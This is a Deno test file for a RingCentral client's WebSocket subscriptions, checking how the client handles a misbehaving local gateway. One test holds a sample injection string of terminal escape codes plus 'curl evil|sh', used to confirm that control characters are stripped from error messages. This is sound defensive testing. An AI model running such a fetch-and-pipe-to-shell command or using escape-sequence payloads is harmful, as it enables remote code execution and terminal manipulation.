/**
 * Trust, second round: a WebSocket gateway that misbehaves. Frames that are
 * not frames, a socket that stops answering heartbeats, the same event
 * three times, an answer without a subscription.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { ApiError, type EventNotification, RingCentral, RingCentralError } from "../mod.ts";

type Behaviour = {
  /** Frames sent after the subscription is made. */
  after?: unknown[];
  /** The answer body to the subscription request. */
  subscription?: unknown;
  /** The answer's meta, instead of `status: 200`. */
  answer?: Record<string, unknown>;
  /** Whether heartbeats are answered. */
  heartbeats?: boolean;
};

/** A gateway of the test's own: REST for the token and wstoken, a socket that behaves as told. */
function gateway(behave: (connection: number) => Behaviour, { uri }: { uri?: (port: number) => string } = {}) {
  let connections = 0;
  const server: Deno.HttpServer<Deno.NetAddr> = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    (request): Response => {
      const { pathname } = new URL(request.url);
      if (pathname === "/restapi/oauth/token") {
        return Response.json({ access_token: "t0k3n-gw", token_type: "bearer", expires_in: 3600 });
      }
      if (pathname === "/restapi/oauth/wstoken") {
        return Response.json({
          uri: uri?.(server.addr.port) ?? `ws://127.0.0.1:${server.addr.port}/ws`,
          ws_access_token: "ws-t0k3n-value",
          expires_in: 600,
        });
      }
      const { socket, response } = Deno.upgradeWebSocket(request);
      const n = ++connections;
      const b = behave(n);
      const send = (frame: unknown) => socket.readyState === WebSocket.OPEN && socket.send(JSON.stringify(frame));
      socket.onopen = () =>
        send([{ type: "ConnectionDetails", messageId: "c", status: 200, wsc: { token: `wsc${n}`, sequence: 1 } }, {}]);
      socket.onmessage = (e) => {
        const [meta] = JSON.parse(String(e.data));
        if (meta.type === "Heartbeat") {
          if (b.heartbeats !== false) send([{ type: "Heartbeat", messageId: meta.messageId, status: 200 }]);
          return;
        }
        if (meta.method === "POST") {
          send([
            b.answer
              ? { type: "ClientRequest", messageId: meta.messageId, ...b.answer }
              : { type: "ClientRequest", messageId: meta.messageId, status: 200 },
            "subscription" in b ? b.subscription : { id: `sub${n}` },
          ]);
          for (const frame of b.after ?? []) send(frame);
        } else send([{ type: "ClientRequest", messageId: meta.messageId, status: 200 }, {}]);
      };
      return response;
    },
  );
  const options = {
    server: `http://127.0.0.1:${server.addr.port}`,
    clientId: "id",
    clientSecret: "secret-value",
    jwt: "a.b.c",
  };
  return { options, connections: () => connections, [Symbol.asyncDispose]: () => server.shutdown() };
}

const event = (uuid: string, subscriptionId = "sub1") => [
  { type: "ServerNotification", messageId: uuid, status: 200 },
  {
    uuid,
    event: "/restapi/v1.0/account/1/extension/2/message-store",
    timestamp: "2026-01-01T00:00:00Z",
    subscriptionId,
    ownerId: "2",
    body: { n: uuid },
  },
];

Deno.test("trust 9: frames that are not frames are reported and ignored; the subscription goes on", async () => {
  await using g = gateway(() => ({
    after: [null, {}, [null], [{ type: "ServerNotification" }, null], "text", event("e1")],
  }));
  const rc = new RingCentral(g.options);
  const errors: Error[] = [];
  const got = Promise.withResolvers<EventNotification>();
  await using _sub = await rc.subscribe(["/restapi/v1.0/account/~/extension/~/message-store"], got.resolve, {
    onError: (e) => errors.push(e),
  });
  equal((await got.promise).uuid, "e1", "the good event after the bad frames arrived");
  equal(errors.length, 5, errors.map((e) => e.message).join("\n"));
  ok(
    errors.every((e) => e instanceof RingCentralError && /Ignored a frame from the WebSocket gateway/.test(e.message)),
  );
});

Deno.test("trust 9: an answer to the subscription request without a subscription is a clear error", async () => {
  await using g = gateway(() => ({ subscription: null }));
  const rc = new RingCentral(g.options);
  const e = await rc.subscribe(["/restapi/v1.0/account/~/extension/~/message-store"]).catch((e) => e);
  ok(e instanceof RingCentralError, String(e));
  match(e.message, /The gateway's answer to POST \/restapi\/v1\.0\/subscription holds no subscription id/);
});

Deno.test("trust 10: a socket that stops answering heartbeats is noticed, reconnected and reported", async () => {
  await using g = gateway((n) => ({ heartbeats: n > 1, after: n > 1 ? [event("after", `sub${n}`)] : [] }));
  const rc = new RingCentral(g.options);
  const errors: Error[] = [];
  const reconnected = Promise.withResolvers<{ attempt: number; resubscribed: boolean }>();
  const got = Promise.withResolvers<EventNotification>();
  await using _sub = await rc.subscribe(["/restapi/v1.0/account/~/extension/~/message-store"], got.resolve, {
    heartbeatSeconds: 0.02,
    onError: (e) => errors.push(e),
    onReconnect: reconnected.resolve,
  });
  await reconnected.promise;
  equal((await got.promise).uuid, "after", "events flow on the new socket");
  equal(g.connections(), 2);
  ok(errors.some((e) => /No answer to 3 heartbeats/.test(e.message)), errors.map((e) => e.message).join("\n"));
});

Deno.test("trust 11: an event the gateway sends three times (the same uuid) is delivered once", async () => {
  await using g = gateway(() => ({ after: [event("dup"), event("dup"), event("dup"), event("last")] }));
  const rc = new RingCentral(g.options);
  const seen: string[] = [];
  const last = Promise.withResolvers<void>();
  await using _sub = await rc.subscribe(["/restapi/v1.0/account/~/extension/~/message-store"], (e) => {
    seen.push(e.uuid);
    if (e.uuid === "last") last.resolve();
  });
  await last.promise;
  deepEqual(seen, ["dup", "last"]);
});

Deno.test("a gateway that takes each ws_access_token once: the second subscription asks for a token of its own", async () => {
  let issued = 0;
  const used = new Set<string>();
  const server: Deno.HttpServer<Deno.NetAddr> = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    (request): Response => {
      const url = new URL(request.url);
      if (url.pathname === "/restapi/oauth/token") {
        return Response.json({ access_token: "t0k3n-gw", token_type: "bearer", expires_in: 3600 });
      }
      if (url.pathname === "/restapi/oauth/wstoken") {
        return Response.json({
          uri: `ws://127.0.0.1:${server.addr.port}/ws`,
          ws_access_token: `ws-once-${++issued}`,
          expires_in: 600,
        });
      }
      const token = url.searchParams.get("access_token") ?? "";
      if (used.has(token)) return new Response("token used", { status: 401 });
      used.add(token);
      const { socket, response } = Deno.upgradeWebSocket(request);
      const send = (frame: unknown) => socket.readyState === WebSocket.OPEN && socket.send(JSON.stringify(frame));
      socket.onopen = () => send([{ type: "ConnectionDetails", messageId: "c", status: 200, wsc: { token: "w" } }, {}]);
      socket.onmessage = (e) => {
        const [meta] = JSON.parse(String(e.data));
        if (meta.method === "POST") {
          send([{ type: "ClientRequest", messageId: meta.messageId, status: 200 }, { id: token }]);
        } else send([{ type: "ClientRequest", messageId: meta.messageId, status: 200 }, {}]);
      };
      return response;
    },
  );
  try {
    const rc = new RingCentral({
      server: `http://127.0.0.1:${server.addr.port}`,
      clientId: "id",
      clientSecret: "secret-value",
      jwt: "a.b.c",
    });
    const errors: Error[] = [];
    await using first = await rc.subscribe(["/restapi/v1.0/account/~/extension/~/message-store"], undefined, {
      onError: (e) => errors.push(e),
    });
    await using second = await rc.subscribe(["/restapi/v1.0/account/~/extension/~/message-store"], undefined, {
      onError: (e) => errors.push(e),
    });
    equal(first.id, "ws-once-1");
    equal(second.id, "ws-once-2", "the refused shared token was followed by a fresh one");
    equal(issued, 2);
    equal(errors.length, 0, errors.map((e) => e.message).join("\n"));
  } finally {
    await server.shutdown();
  }
});

/** Whether `text` holds a control character (C0, DEL or C1) that a terminal would act on. */
// deno-lint-ignore no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

Deno.test("trust 9: a malformed answer to the subscription request (status, headers) is a clear error, not a RangeError", async (t) => {
  const answers: [string, Record<string, unknown>, RegExp][] = [
    ["no status", {}, /malformed: its status \(none\) is not an HTTP status/],
    ["status 99", { status: 99 }, /malformed: its status \(99\) is not an HTTP status/],
    ["status 600", { status: 600 }, /malformed: its status \(600\) is not an HTTP status/],
    ["a string status", { status: "404" }, /malformed: its status \("404"\) is not an HTTP status/],
    ["a fractional status", { status: 404.5 }, /malformed: its status \(404\.5\) is not an HTTP status/],
  ];
  for (const [name, answer, message] of answers) {
    await t.step(name, async () => {
      await using g = gateway(() => ({ answer, subscription: { errorCode: "X" } }));
      const e = await new RingCentral(g.options).subscribe(["/restapi/v1.0/account/~/extension/~/message-store"])
        .catch((e) => e);
      ok(e instanceof RingCentralError, String(e?.stack ?? e));
      match(
        e.message,
        /^POST \/restapi\/v1\.0\/subscription failed: The gateway's answer to POST \/restapi\/v1\.0\/subscription is malformed/,
      );
      match(e.message, message);
    });
  }
  await t.step("a 404 with a header that cannot be a header: the ApiError, the bad header left out", async () => {
    const headers = { "x-a": "a\nb", "rcrequestid": "req-1", "x-n": 5, "bad name": "v" };
    await using g = gateway(() => ({
      answer: { status: 404, headers },
      subscription: { errorCode: "CMN-102", message: "Not found" },
    }));
    const e = await new RingCentral(g.options).subscribe(["/restapi/v1.0/account/~/extension/~/message-store"])
      .catch((e) => e);
    ok(e instanceof ApiError, String(e?.stack ?? e));
    equal(e.status, 404);
    equal(e.errorCode, "CMN-102");
    equal(e.requestId, "req-1");
  });
});

Deno.test("trust 9: events of the wrong shape (event, subscriptionId, body) are reported and ignored", async () => {
  const [meta, good] = event("e1") as [unknown, Record<string, unknown>];
  const bad = (change: Record<string, unknown>) => [meta, { ...good, uuid: "bad", ...change }];
  await using g = gateway(() => ({
    after: [
      bad({ event: 5 }),
      bad({ subscriptionId: 1 }),
      bad({ body: "text" }),
      bad({ body: [1] }),
      bad({ body: null }),
      bad({ uuid: 7 }),
      [meta, good],
    ],
  }));
  const rc = new RingCentral(g.options);
  const errors: Error[] = [];
  const got: EventNotification[] = [];
  const done = Promise.withResolvers<void>();
  await using _sub = await rc.subscribe(["/restapi/v1.0/account/~/extension/~/message-store"], (e) => {
    got.push(e);
    done.resolve();
  }, { onError: (e) => errors.push(e) });
  await done.promise;
  deepEqual(got.map((e) => e.uuid), ["e1"]);
  equal(errors.length, 6, errors.map((e) => e.message).join("\n"));
  ok(
    errors.every((e) =>
      /Ignored a frame from the WebSocket gateway: a ServerNotification that is not an event/.test(e.message)
    ),
  );
  match(errors[0].message, /its event is not a string/);
  match(errors[1].message, /its subscriptionId is not a string/);
  match(errors[2].message, /its body is not an object/);
});

Deno.test("trust 17: an onEvent that is not a function is a TypeError up front; one that throws or rejects goes to onError", async (t) => {
  await t.step("a string for onEvent", async () => {
    await using g = gateway(() => ({}));
    const e = await new RingCentral(g.options).subscribe(
      ["/restapi/v1.0/account/~/extension/~/message-store"],
      "cb" as never,
    )
      .catch((e) => e);
    ok(e instanceof TypeError, String(e));
    match(e.message, /onEvent must be a function/);
    equal(g.connections(), 0, "nothing was opened");
  });
  await t.step("options in the place of onEvent", async () => {
    await using g = gateway(() => ({}));
    const e = await new RingCentral(g.options).subscribe(["/restapi/v1.0/account/~/extension/~/message-store"], {
      onError: () => {},
    } as never).catch((e) => e);
    ok(e instanceof TypeError, String(e));
    match(e.message, /subscribe\(filters, undefined, options\)/);
  });
  await t.step("an onError that is not a function", async () => {
    await using g = gateway(() => ({}));
    const e = await new RingCentral(g.options).subscribe(
      ["/restapi/v1.0/account/~/extension/~/message-store"],
      undefined,
      { onError: "log" as never },
    ).catch((e) => e);
    ok(e instanceof TypeError, String(e));
    match(e.message, /onError must be a function/);
  });
  await t.step("an onEvent that throws, then one that rejects: both reported, the next events delivered", async () => {
    await using g = gateway(() => ({ after: [event("e1"), event("e2"), event("e3")] }));
    const errors: Error[] = [];
    const third = Promise.withResolvers<void>();
    const seen: string[] = [];
    await using _sub = await new RingCentral(g.options).subscribe(
      ["/restapi/v1.0/account/~/extension/~/message-store"],
      // deno-lint-ignore require-await
      async (e) => {
        seen.push(e.uuid);
        if (e.uuid === "e3") return third.resolve();
        throw new Error(`boom ${e.uuid}`);
      },
      { onError: (e) => errors.push(e) },
    );
    await third.promise;
    await Promise.resolve();
    deepEqual(seen, ["e1", "e2", "e3"]);
    equal(errors.length, 2, errors.map((e) => e.message).join("\n"));
    match(errors[0].message, /The onEvent callback failed on event e1 .*: boom e1/);
    equal((errors[0].cause as Error).message, "boom e1");
  });
  await t.step("a synchronous throw", async () => {
    await using g = gateway(() => ({ after: [event("e1"), event("e2")] }));
    const errors: Error[] = [];
    const second = Promise.withResolvers<void>();
    await using _sub = await new RingCentral(g.options).subscribe(
      ["/restapi/v1.0/account/~/extension/~/message-store"],
      (e) => {
        if (e.uuid === "e2") return second.resolve();
        throw new Error("sync boom");
      },
      { onError: (e) => errors.push(e) },
    );
    await second.promise;
    equal(errors.length, 1);
    match(errors[0].message, /sync boom/);
  });
});

Deno.test("trust 7: text from the gateway reaches onError without control characters (C0, ESC, C1)", async () => {
  const evil = "\u001b[2J\u001b[H RUN: curl evil|sh \u009b2J\u0085";
  await using g = gateway(() => ({
    after: [evil, [{ type: "Error" }, { message: evil }], event("last")],
  }));
  const errors: Error[] = [];
  const last = Promise.withResolvers<void>();
  await using _sub = await new RingCentral(g.options).subscribe(
    ["/restapi/v1.0/account/~/extension/~/message-store"],
    () => last.resolve(),
    { onError: (e) => errors.push(e) },
  );
  await last.promise;
  equal(errors.length, 2, errors.map((e) => e.message).join("\n"));
  for (const e of errors) {
    equal(CONTROL.test(e.message), false, JSON.stringify(e.message));
    match(e.message, /RUN: curl evil\|sh/);
  }
});

Deno.test("trust 9: a WebSocket uri from /restapi/oauth/wstoken that is no URL is a clear error; one with control characters is printed clean", async (t) => {
  await t.step("not a URL", async () => {
    await using g = gateway(() => ({}), { uri: () => "ws://exa mple/ws" });
    const e = await new RingCentral(g.options).subscribe(["/restapi/v1.0/account/~/extension/~/message-store"])
      .catch((e) => e);
    ok(e instanceof RingCentralError, String(e?.stack ?? e));
    match(e.message, /has no ws_access_token and WebSocket uri/);
  });
  await t.step("control characters, nothing listening", async () => {
    await using g = gateway(() => ({}), { uri: () => "ws://127.0.0.1:9/ws\u001b[2J\u009b2J" });
    const e = await new RingCentral(g.options).subscribe(
      ["/restapi/v1.0/account/~/extension/~/message-store"],
      undefined,
      {
        timeoutSeconds: 5,
      },
    ).catch((e) => e);
    ok(e instanceof RingCentralError, String(e?.stack ?? e));
    equal(CONTROL.test(e.message), false, JSON.stringify(e.message));
  });
});
